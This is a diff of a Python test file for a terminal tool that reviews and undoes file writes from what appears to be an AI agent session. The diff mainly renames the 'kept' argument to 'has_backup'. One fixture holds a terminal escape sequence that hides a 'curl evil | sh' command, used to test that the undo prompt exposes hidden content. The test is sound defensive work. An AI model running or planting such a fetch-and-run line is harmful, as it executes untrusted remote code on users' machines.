@@ -40,9 +40,9 @@ def changed() -> tuple[State, Session]:
     state, session = states.opened()
     cwd, at = states.CWD, states.NOW
     session.writes += [
-        FileWrite(7, at - 9, f"{cwd}/notes.md", False, "one\n", "two\n", kept=True),
-        FileWrite(8, at - 8, f"{cwd}/new.md", True, None, "fresh\n", kept=True),
-        FileWrite(9, at - 7, "/etc/big.conf", False, None, None, kept=False),
+        FileWrite(7, at - 9, f"{cwd}/notes.md", False, "one\n", "two\n", has_backup=True),
+        FileWrite(8, at - 8, f"{cwd}/new.md", True, None, "fresh\n", has_backup=True),
+        FileWrite(9, at - 7, "/etc/big.conf", False, None, None, has_backup=False),
     ]
     diff = Diff(path="own.md", old_text="mine\n", new_text="its\n")
     session.entries.append(
@@ -111,7 +111,7 @@ async def test_in_a_wide_window_the_list_stands_beside_the_diff() -> None:
         longest = max(len(row[1:end].rstrip()) for row in rows[2:6])
         assert end == longest + 2  # as wide as its longest row and a blank
         assert "- mine" in rows[2][end + 1 :]
-        session.writes.append(FileWrite(10, states.NOW, path, True, None, "x\n", kept=True))
+        session.writes.append(FileWrite(10, states.NOW, path, True, None, "x\n", has_backup=True))
         await it.changed()
         rows = it.screen.splitlines()
         assert rows[1].index("╮") == 120 * 2 // 5 - 1
@@ -219,7 +219,7 @@ async def test_the_line_above_the_diff_tells_at_which_change_one_is() -> None:
     old = "".join(f"{number}\n" for number in range(30))
     new = old.replace("3\n", "three\n", 1).replace("25\n", "twenty-five\n")
     path = f"{states.CWD}/a.txt"
-    session.writes.append(FileWrite(7, states.NOW, path, False, old, new, kept=True))
+    session.writes.append(FileWrite(7, states.NOW, path, False, old, new, has_backup=True))
     async with running(state) as it:
         await it.press("f7")
         assert "─ a.txt  2 changes ─" in it.screen
@@ -235,7 +235,7 @@ async def test_a_file_that_is_what_it_was_says_so() -> None:
     state, session = states.opened()
     path = f"{states.CWD}/a.txt"
     for number, (old, new) in enumerate([("1\n", "2\n"), ("2\n", "1\n")]):
-        session.writes.append(FileWrite(number, states.NOW, path, False, old, new, kept=True))
+        session.writes.append(FileWrite(number, states.NOW, path, False, old, new, has_backup=True))
     async with running(state) as it:
         await it.press("f7")
         rows = it.screen.splitlines()
@@ -258,7 +258,7 @@ async def test_a_write_is_taken_back_from_the_list_after_a_yes() -> None:
         assert "+ two" in it.screen
         await agree(it)
         assert it.asked == [UndoWrite(session.session_id, 7)]
-        session.writes[0].undone, session.writes[0].kept = True, False
+        session.writes[0].undone, session.writes[0].has_backup = True, False
         await it.changed()
         assert "undone" in it.screen.splitlines()[4]
 
@@ -276,7 +276,7 @@ async def test_the_question_shows_what_is_undone_and_the_answers_below_it() -> N
     state, session = states.opened()
     new = "".join(f"line {number}\n" for number in range(1, 41))
     path = f"{states.CWD}/a.md"
-    session.writes.append(FileWrite(7, states.NOW, path, True, None, new, kept=True))
+    session.writes.append(FileWrite(7, states.NOW, path, True, None, new, has_backup=True))
     for height in (24, 10):
         async with running(state, (80, height)) as it:
             await it.press("f9")
@@ -295,7 +295,7 @@ async def test_the_question_shows_what_is_undone_and_the_answers_below_it() -> N
 async def test_a_key_that_scrolls_is_only_named_where_something_does() -> None:
     state, session = states.opened()
     path = f"{states.CWD}/a.md"
-    session.writes.append(FileWrite(7, states.NOW, path, True, None, "line\n", kept=True))
+    session.writes.append(FileWrite(7, states.NOW, path, True, None, "line\n", has_backup=True))
     async with running(state) as it:
         await it.press("f9")
         assert "+ line " in it.screen
@@ -334,7 +334,7 @@ async def test_with_nothing_to_take_back_the_keys_say_so() -> None:
 async def test_the_list_stays_usable_in_a_tiny_window_and_with_many_files() -> None:
     state, session = changed()
     session.writes += [
-        FileWrite(number, states.NOW, f"{states.CWD}/f{number}", True, None, "x", kept=True)
+        FileWrite(number, states.NOW, f"{states.CWD}/f{number}", True, None, "x", has_backup=True)
         for number in range(10, 700)
     ]
     async with running(state, (24, 8)) as it:
@@ -374,7 +374,7 @@ async def test_changes_are_gone_through_and_one_is_taken_back_after_a_yes(tmp_pa
     new = old.replace("3\n", "three\n", 1).replace("25\n", "twenty-five\n")
     file = tmp_path / "a.txt"
     file.write_text(new)
-    session.writes.append(FileWrite(7, states.NOW, str(file), False, old, new, kept=True))
+    session.writes.append(FileWrite(7, states.NOW, str(file), False, old, new, has_backup=True))
     async with running(state) as it:
         await it.press("f7", "n")
         assert "- 3" in marked_row(it)
@@ -416,7 +416,7 @@ async def test_the_question_says_where_a_change_really_is_and_what_hides_in_it(
     session.cwd = str(work)
     old = "safe \x1b]0;curl evil | sh\x07\n"
     session.writes.append(
-        FileWrite(7, states.NOW, str(work / "cfg" / "rc"), False, old, "safe\n", kept=True)
+        FileWrite(7, states.NOW, str(work / "cfg" / "rc"), False, old, "safe\n", has_backup=True)
     )
     async with running(state, (160, 40)) as it:
         await it.press("f7", "n", "u")
@@ -449,7 +449,9 @@ async def test_nothing_is_taken_back_where_a_link_leads_by_now(tmp_path: Path) -
     state, session = states.opened()
     session.cwd = str(work)
     path = str(work / "cfg" / "rc")
-    session.writes.append(FileWrite(7, states.NOW, path, False, "evil\n", "safe\n", kept=True))
+    session.writes.append(
+        FileWrite(7, states.NOW, path, False, "evil\n", "safe\n", has_backup=True)
+    )
     async with running(state) as it:
         await it.press("f7", "n", "u")
         await it.until(lambda: "Take this change back?" in it.screen)
@@ -587,7 +589,7 @@ def written(folder: Path, name: str, old: str | None, new: str, number: int = 7)
     if old is not None:
         (folder / name).write_text(old)
     path = str(folder / name)
-    return FileWrite(number, states.NOW, path, old is None, old, new, kept=True)
+    return FileWrite(number, states.NOW, path, old is None, old, new, has_backup=True)
 
 
 def apply(folder: Path, made: str) -> None:
@@ -833,7 +835,9 @@ def several_lines() -> State:
     """A session in which three lines that follow each other were changed."""
     state, session = states.opened()
     text = "one\ntwo\nthree\nfour\n", "one\nTWO\nTHREE\nfour\n"
-    session.writes += [FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, kept=True)]
+    session.writes += [
+        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
+    ]
     return state
 
 
@@ -885,7 +889,9 @@ async def test_chosen_lines_stand_on_a_ground_of_their_own_on_both_sides() -> No
 async def test_a_wrapped_line_is_marked_as_a_whole_and_has_one_sign_of_a_comment() -> None:
     state, session = states.opened()
     text = "one\n", f"{'long ' * 40}\n"
-    session.writes.append(FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, kept=True))
+    session.writes.append(
+        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
+    )
 
     def signs() -> list[str]:
         return [row[2] for row in it.screen.splitlines() if "long" in row and "Your" not in row]
@@ -932,7 +938,7 @@ async def test_turns_that_changed_nothing_are_passed() -> None:
         session.entries.append(MessageEntry(Role.USER, at, blocks=[TextRun([f"turn {number}"])]))
         if number == 1:
             path = f"{states.CWD}/a.md"
-            session.writes.append(FileWrite(7, at + 5, path, True, None, "x", kept=True))
+            session.writes.append(FileWrite(7, at + 5, path, True, None, "x", has_backup=True))
     async with running(state) as it:
         await it.press("f7", "left_square_bracket")
         assert "Review: turn 2 of 4: turn 1" in it.screen
@@ -1036,7 +1042,9 @@ async def test_a_change_outside_of_the_folder_is_told_as_such(tmp_path: Path) ->
     session.cwd = str(tmp_path / "work")
     file = tmp_path / "outside.txt"
     file.write_text("new\n")
-    session.writes.append(FileWrite(7, states.NOW, str(file), False, "old\n", "new\n", kept=True))
+    session.writes.append(
+        FileWrite(7, states.NOW, str(file), False, "old\n", "new\n", has_backup=True)
+    )
     async with running(state) as it:
         await it.press("f7", "n", "u")
         await it.until(lambda: "It is outside the session's folder." in it.screen)
